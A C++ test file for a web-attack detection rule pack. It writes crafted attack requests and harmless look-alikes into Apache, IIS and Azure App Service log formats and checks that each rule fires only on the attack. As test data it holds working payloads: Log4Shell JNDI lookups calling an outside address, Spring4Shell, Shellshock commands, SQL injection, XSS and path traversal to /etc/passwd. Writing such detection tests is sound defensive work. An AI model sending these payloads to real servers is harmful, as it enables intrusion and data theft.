// The web rule pack through `bulwark detect` with the appservice plugin: crafted attacks (and a
// look-alike for each that must not fire) written as a combined access log, a W3C extended log
// as App Service and IIS write it, and AppServiceHTTPLogs as JSON lines and as diagnostic
// settings' {"records": [...]}; every rule fires on the same requests in every format.
// Garbage lines are reported by file and line and the rest is read.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include <bulwark/sdk/http_request.hpp>

#include <ctime>
#include <map>

#include "web_detect.h"

using namespace bulwark;
using nlohmann::json;

namespace {

constexpr int64_t kBase = 1796256000;  // 2026-12-03T00:00:00Z

struct Request {
  std::string ip, method, target;  // target: path and query as sent (encoded)
  int status = 200;
  std::string userAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
  std::string referer = "-";
  int64_t time = 0;
};

struct Case {
  std::string name;
  std::set<std::string> expected;  // the rules whose alerts name the case's addresses
  std::vector<Request> requests;
};

std::string stamp(int64_t t, const char* format) {
  std::time_t tt = static_cast<std::time_t>(t);
  std::tm tm{};
  gmtime_r(&tt, &tm);
  char out[64];
  std::strftime(out, sizeof out, format, &tm);
  return out;
}

std::string path(const Request& r) {
  return r.target.substr(0, r.target.find('?'));
}

std::string query(const Request& r) {
  size_t q = r.target.find('?');
  return q == std::string::npos ? "" : r.target.substr(q + 1);
}

std::string combinedLine(const Request& r) {
  return r.ip + " - - [" + stamp(r.time, "%d/%b/%Y:%H:%M:%S +0000") + "] \"" + r.method + " " +
         r.target + " HTTP/1.1\" " + std::to_string(r.status) + " 512 \"" + r.referer + "\" \"" +
         r.userAgent + "\"\n";
}

std::string plusForSpace(std::string text) {
  for (char& c : text) {
    if (c == ' ') c = '+';
  }
  return text;
}

constexpr const char* kW3cHeader =
    "#Software: Microsoft Internet Information Services 10.0\n"
    "#Version: 1.0\n"
    "#Date: 2026-12-03 00:00:00\n"
    "#Fields: date time s-sitename cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus sc-win32-status "
    "sc-bytes cs-bytes time-taken\n";

std::string w3cLine(const Request& r) {
  std::string q = query(r);
  return stamp(r.time, "%Y-%m-%d %H:%M:%S") + " SHOP " + r.method + " " + path(r) + " " +
         (q.empty() ? "-" : q) + " 443 - " + r.ip + " " + plusForSpace(r.userAgent) + " - " +
         plusForSpace(r.referer) + " shop.azurewebsites.net " + std::to_string(r.status) +
         " 0 0 512 310 15\n";
}

json appServiceRecord(const Request& r) {
  return {{"TimeGenerated", stamp(r.time, "%Y-%m-%dT%H:%M:%S.1234567Z")},
          {"CsMethod", r.method},
          {"CsUriStem", path(r)},
          {"CsUriQuery", query(r)},
          {"ScStatus", r.status},
          {"CIp", r.ip},
          {"UserAgent", r.userAgent},
          {"Referer", r.referer},
          {"CsHost", "shop.azurewebsites.net"},
          {"SPort", "443"},
          {"Category", "AppServiceHTTPLogs"},
          {"Type", "AppServiceHTTPLogs"}};
}

json diagnosticRecord(const Request& r) {
  json properties = appServiceRecord(r);
  properties.erase("TimeGenerated");
  return {{"time", stamp(r.time, "%Y-%m-%dT%H:%M:%SZ")},
          {"resourceId",
           "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000001/RESOURCEGROUPS/WEB/PROVIDERS/"
           "MICROSOFT.WEB/SITES/SHOP"},
          {"category", "AppServiceHTTPLogs"},
          {"properties", properties}};
}

// Requests of one address, two seconds apart.
std::vector<Request> from(const std::string& ip, const std::vector<std::vector<std::string>>& rs) {
  std::vector<Request> out;
  for (const auto& r : rs) {
    Request q;
    q.ip = ip;
    q.method = r.at(0);
    q.target = r.at(1);
    q.status = std::stoi(r.at(2));
    if (r.size() > 3) q.userAgent = r[3];
    if (r.size() > 4) q.referer = r[4];
    out.push_back(q);
  }
  return out;
}

std::vector<Request> repeated(const std::string& ip, int n, const std::string& method,
                              const std::string& target, int status, bool numbered = false) {
  std::vector<std::vector<std::string>> rs;
  for (int i = 0; i < n; ++i)
    rs.push_back({method, numbered ? target + std::to_string(i) : target, std::to_string(status)});
  return from(ip, rs);
}

std::vector<Case> cases() {
  std::vector<Case> out = {
      {"scanner user agents",
       {"web.scanner.user-agent"},
       from("203.0.113.1",
            {{"GET", "/", "200", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"},
             {"GET", "/index.php?id=1", "200", "sqlmap/1.8.2#stable (https://sqlmap.org)"},
             {"GET", "/", "200", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"},
             {"GET", "/", "400", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
             {"GET", "/", "200", "Mozilla/5.0 zgrab/0.x"},
             {"GET", "/", "200", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"},
             {"GET", "/", "200",
              "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"}})},
      {"ordinary browsers and crawlers",
       {},
       from("203.0.113.2", {{"GET", "/", "200", "Mozilla/5.0 (compatible; Googlebot/2.1)"},
                            {"GET", "/about", "200", "curl/8.5.0"}})},
      // Nmap's Trinity.txt.bak is a backup file's name too.
      {"scanner probe paths, encoded",
       {"web.scanner.tool-path", "web.probe.sensitive-file"},
       from("203.0.113.3", {{"GET", "/nmaplowercheck1764547200", "404"},
                            {"GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "404"},
                            {"POST", "/HNAP1/", "404"}})},
      {"admin and install paths of several kinds",
       {"web.scanner.probe"},
       from("203.0.113.4", {{"GET", "/wp-login.php", "200"},
                            {"GET", "/phpMyAdmin/", "200"},
                            {"GET", "/manager/html", "404"}})},
      {"one admin path again and again", {}, repeated("203.0.113.5", 4, "GET", "/wp-admin/", 200)},
      {"CMS fingerprinting that finds nothing",
       {"web.cms.scan"},
       from("203.0.113.6", {{"GET", "/wp-content/plugins/revslider/readme.txt", "404"},
                            {"GET", "/wp-includes/wlwmanifest.xml", "404"},
                            {"GET", "/core/CHANGELOG.txt", "404"},
                            {"GET", "/components/com_users/users.xml", "404"},
                            {"GET", "/sites/default/settings.php", "404"},
                            {"GET", "/misc/drupal.js", "404"}})},
      {"a WordPress site serving its own files",
       {},
       from("203.0.113.7", {{"GET", "/wp-content/plugins/revslider/readme.txt", "200"},
                            {"GET", "/wp-includes/wlwmanifest.xml", "200"},
                            {"GET", "/wp-content/themes/x/style.css", "200"},
                            {"GET", "/wp-includes/js/jquery.js", "200"},
                            {"GET", "/wp-content/uploads/2026/12/a.jpg", "200"}})},
      {"secrets and repository files, encoded",
       {"web.probe.sensitive-file"},
       from("203.0.113.8", {{"GET", "/%2Eenv", "404"}, {"GET", "/.git/config", "404"}})},
      {"pages whose names look like secrets",
       {},
       from("203.0.113.9", {{"GET", "/environment.html", "200"}, {"GET", "/gitlab/", "200"}})},
      {"path traversal, double-encoded and with backslashes",
       {"web.path-traversal"},
       from("203.0.113.10",
            {{"GET", "/download.php?file=%252e%252e%252f%252E%252E%252Fetc%252fpasswd", "200"},
             {"GET", "/static/..%5c..%5cWindows/win.ini", "404"},
             {"GET", "/img/%2E%2e%2F%2e%2E%2fapp.config", "404"}})},
      {"dots that are not traversal",
       {},
       from("203.0.113.11", {{"GET", "/docs/a..b.html", "200"}, {"GET", "/v1.2/x", "200"}})},
      {"SQL injection, encoded and in mixed case",
       {"web.sql-injection"},
       from("203.0.113.12",
            {{"GET", "/product.php?id=1%20UNION%20ALL%20SELECT%20NULL,concat(0x3a,user()),NULL--",
              "200"},
             {"GET", "/item?id=1'+OR+'1'='1", "200"},
             {"GET", "/search?q=1%2527%2520AnD%2520SlEeP(5)--", "200"}})},
      {"words of SQL in ordinary pages",
       {},
       from("203.0.113.13", {{"GET", "/articles/union-select-committee", "200"},
                             {"GET", "/search?q=sleeping+bags&order=price", "200"}})},
      {"cross-site scripting",
       {"web.xss"},
       from("203.0.113.14",
            {{"GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "200"},
             {"GET", "/p?x=%2522%253E%253CSvG/OnLoad%253Dprompt(1)%253E", "200"}})},
      {"scripts and words that are not XSS",
       {},
       from("203.0.113.15",
            {{"GET", "/scripts/app.js", "200"}, {"GET", "/search?q=alerting+on+load", "200"}})},
      {"Log4Shell in the URL and the user agent, obfuscated",
       {"web.rce.log4shell"},
       from("203.0.113.16",
            {{"GET", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", "200"},
             {"GET", "/", "200", "${jndi:ldap://198.51.100.7:1389/a}"},
             {"GET", "/", "200", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"},
             {"GET", "/", "200", "Mozilla/5.0", "${j${::-n}di:dns://198.51.100.7/a}"}})},
      {"template placeholders", {}, from("203.0.113.17", {{"GET", "/price?fmt=${amount}", "200"}})},
      {"Spring4Shell",
       {"web.rce.spring4shell"},
       from("203.0.113.18",
            {{"POST",
              "/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern="
              "%25%7Bc2%7Di",
              "200"}})},
      {"a page about class loaders",
       {},
       from("203.0.113.19", {{"GET", "/docs/classloader.html", "200"}})},
      {"Shellshock in the user agent and the referer",
       {"web.rce.shellshock"},
       from("203.0.113.20", {{"GET", "/cgi-bin/status", "200", "() { :;}; /bin/bash -c id"},
                             {"GET", "/", "200", "Mozilla/5.0", "() { ignored; }; echo; id"}})},
      {"braces in a user agent",
       {},
       from("203.0.113.21", {{"GET", "/", "200", "Mozilla/5.0 (compatible; {bot})"}})},
      {"known exploit paths",
       {"web.rce.cve-probe"},
       from("203.0.113.22",
            {{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "404"},
             {"GET",
              "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array",
              "200"},
             {"POST", "/_ignition/execute-solution", "405"}})},
      {"PHPUnit's readme", {}, from("203.0.113.23", {{"GET", "/vendor/phpunit/README.md", "404"}})},
      {"a script run from the upload folder",
       {"web.webshell.upload-path"},
       from("203.0.113.24", {{"POST", "/wp-content/uploads/2026/12/x7.php", "200"},
                             {"GET", "/wp-content/UPLOADS/2026/12/x7.PhP", "200"}})},
      {"pictures and a refused script in the upload folder",
       {},
       from("203.0.113.25", {{"GET", "/wp-content/uploads/2026/12/photo.jpg", "200"},
                             {"GET", "/wp-content/uploads/2026/12/x7.php", "404"}})},
      {"a known web shell",
       {"web.webshell.known-name"},
       from("203.0.113.26", {{"GET", "/c99.php", "200"}})},
      {"a known web shell's name, not there",
       {},
       from("203.0.113.27", {{"GET", "/c99.php", "404"}})},
      {"a flood of not-found answers",
       {"web.scan.404-flood"},
       repeated("203.0.113.28", 60, "GET", "/guess", 404, true)},
      {"a few not-found answers", {}, repeated("203.0.113.29", 40, "GET", "/guess", 404, true)},
      {"login brute force from one address",
       {"web.login.bruteforce"},
       repeated("203.0.113.30", 12, "POST", "/wp-login.php", 200)},
      {"a few failed logins", {}, repeated("203.0.113.31", 5, "POST", "/wp-login.php", 200)},
  };
  Case distributed{"distributed login brute force", {"web.login.distributed"}, {}};
  Case few{"a few addresses logging in", {}, {}};
  for (int i = 1; i <= 12; ++i) {
    for (auto& r :
         from("198.51.100." + std::to_string(i), {{"POST", "/administrator/index.php", "200"}}))
      distributed.requests.push_back(r);
  }
  for (int i = 101; i <= 108; ++i) {
    for (auto& r : from("198.51.100." + std::to_string(i), {{"POST", "/user/login", "200"}}))
      few.requests.push_back(r);
  }
  out.push_back(distributed);
  out.push_back(few);
  // Each case in its own two hours, so no rule window joins two of them.
  for (size_t k = 0; k < out.size(); ++k) {
    for (size_t i = 0; i < out[k].requests.size(); ++i)
      out[k].requests[i].time =
          kBase + static_cast<int64_t>(k) * 7200 + static_cast<int64_t>(i) * 2;
  }
  return out;
}

// Writes every case's requests in one format; returns "TYPE:PATH".
std::string writeLog(const test::TempDir& dir, const std::string& format,
                     const std::vector<Case>& all) {
  std::string text;
  json records = json::array();
  if (format == "w3c") text = kW3cHeader;
  for (const auto& c : all) {
    for (const auto& r : c.requests) {
      if (format == "apache") text += combinedLine(r);
      if (format == "w3c") text += w3cLine(r);
      if (format == "appservice-http-logs") text += appServiceRecord(r).dump() + "\n";
      if (format == "records") records.push_back(diagnosticRecord(r));
    }
  }
  if (format == "records") text = json{{"records", records}}.dump(2);
  test::writeFile(dir / (format + ".log"), text);
  std::string type = format == "records" ? "appservice-http-logs" : format;
  return type + ":" + (dir / (format + ".log")).string();
}

}  // namespace

TEST_CASE("every web rule fires on its attack and not on its look-alike, in every log format") {
  std::vector<Case> all = cases();
  for (const char* format : {"apache", "w3c", "appservice-http-logs", "records"}) {
    DYNAMIC_SECTION(format) {
      test::TempDir dir;
      test::WebDetection d = test::detectWeb(dir, {writeLog(dir, format, all)});
      INFO(d.err);
      CHECK_THAT(d.err, Catch::Contains(" 0 unparsed"));
      std::set<std::string> fired;
      for (const auto& c : all) {
        INFO(c.name);
        std::set<std::string> named;
        for (const auto& r : c.requests) {
          for (const auto& rule : test::rulesNaming(d.alerts, r.ip))
            named.insert(rule);
        }
        CHECK(named == c.expected);
        fired.insert(c.expected.begin(), c.expected.end());
      }
      // Every rule of the pack has a case.
      CHECK(fired.size() == 17);
      for (const auto& a : d.alerts) {
        CHECK_FALSE(a["mitre"]["tactic"].get<std::string>().empty());
        CHECK_FALSE(a["evidence"].empty());
      }
    }
  }
}

TEST_CASE("garbage lines are reported by file and line, in every format, and the rest is read") {
  test::TempDir dir;
  Request scan;
  scan.ip = "203.0.113.50";
  scan.method = "GET";
  scan.target = "/.env";
  scan.status = 404;
  scan.time = kBase;
  test::writeFile(dir / "access.log", combinedLine(scan) + "garbage\n" +
                                          "203.0.113.50 - - [03/Dec/2026:00:00:01 +0000] "
                                          "\"GET / HTTP/1.1\" 2OO 5\n" +
                                          combinedLine(scan));
  test::writeFile(dir / "w3c.log", std::string(kW3cHeader) + w3cLine(scan) +
                                       "2026-12-03 00:00:01 SHOP GET /short\n" + w3cLine(scan));
  test::writeFile(dir / "http.json", appServiceRecord(scan).dump() + "\n{not json\n" +
                                         json{{"TimeGenerated", "2026-12-03T00:00:01Z"}}.dump() +
                                         "\n" + appServiceRecord(scan).dump() + "\n");
  test::WebDetection d = test::detectWeb(
      dir, {"apache:" + (dir / "access.log").string(), "w3c:" + (dir / "w3c.log").string(),
            "appservice-http-logs:" + (dir / "http.json").string()});
  for (const std::string bad :
       {"access.log:2: skipped", "access.log:3: skipped: bad status code", "w3c.log:6: skipped",
        "http.json:2: skipped", "http.json:3: skipped"})
    CHECK_THAT(d.err, Catch::Contains(bad));
  CHECK_THAT(d.err, Catch::Contains(" 5 unparsed"));
  // The good lines around them were read: each file's two .env probes.
  uint64_t events = 0;
  for (const auto& a : d.alerts) {
    if (a["rule"] == "web.probe.sensitive-file") events += a["eventCount"].get<uint64_t>();
  }
  CHECK(events == 6);
}

TEST_CASE("the portal's Log Analytics export: a JSON array with TimeGenerated [UTC]") {
  test::TempDir dir;
  json rows = json::array();
  for (const char* time : {"12/3/2026, 1:00:00.000 PM", "2026-12-03T13:00:02.000Z"}) {
    rows.push_back({{"TenantId", "00000000-0000-0000-0000-000000000002"},
                    {"TimeGenerated [UTC]", time},
                    {"CsMethod", "GET"},
                    {"CsUriStem", "/.git/HEAD"},
                    {"CsUriQuery", ""},
                    {"ScStatus", 404},
                    {"CIp", "203.0.113.60"},
                    {"Type", "AppServiceHTTPLogs"}});
  }
  test::writeFile(dir / "export.json", rows.dump(2));
  test::WebDetection d =
      test::detectWeb(dir, {"appservice-http-logs:" + (dir / "export.json").string()});
  INFO(d.err);
  CHECK_THAT(d.err, Catch::Contains(" 0 unparsed"));
  REQUIRE(d.alerts.size() == 1);
  CHECK(d.alerts[0]["rule"] == "web.probe.sensitive-file");
  CHECK(d.alerts[0]["eventCount"] == 2);
  CHECK(d.alerts[0]["firstSeen"] == "2026-12-03T13:00:00Z");  // 1 PM, the portal's form
}

TEST_CASE("decodedUrl: percent, double and IIS encodings, overlong dots, '+', backslashes, case") {
  CHECK(sdk::decodedUrl("/a/%252E%252e%255c..%5Cetc/PASSWD") == "/a/../../etc/passwd");
  CHECK(sdk::decodedUrl("/%u002e%u002e/x") == "/../x");
  CHECK(sdk::decodedUrl("/%c0%ae%c0%ae%c0%afetc") == "/../etc");
  CHECK(sdk::decodedUrl("/q?a=1+UNION+%53ELECT") == "/q?a=1 union select");
  CHECK(sdk::decodedUrl("/%25252e") == "/.");                    // triple encoding
  CHECK(sdk::decodedUrl("/100%25-sure%zz") == "/100%-sure%zz");  // stray % stay
  CHECK(sdk::decodedPath("/a%3fb?c=%2e") == "/a?b");
}
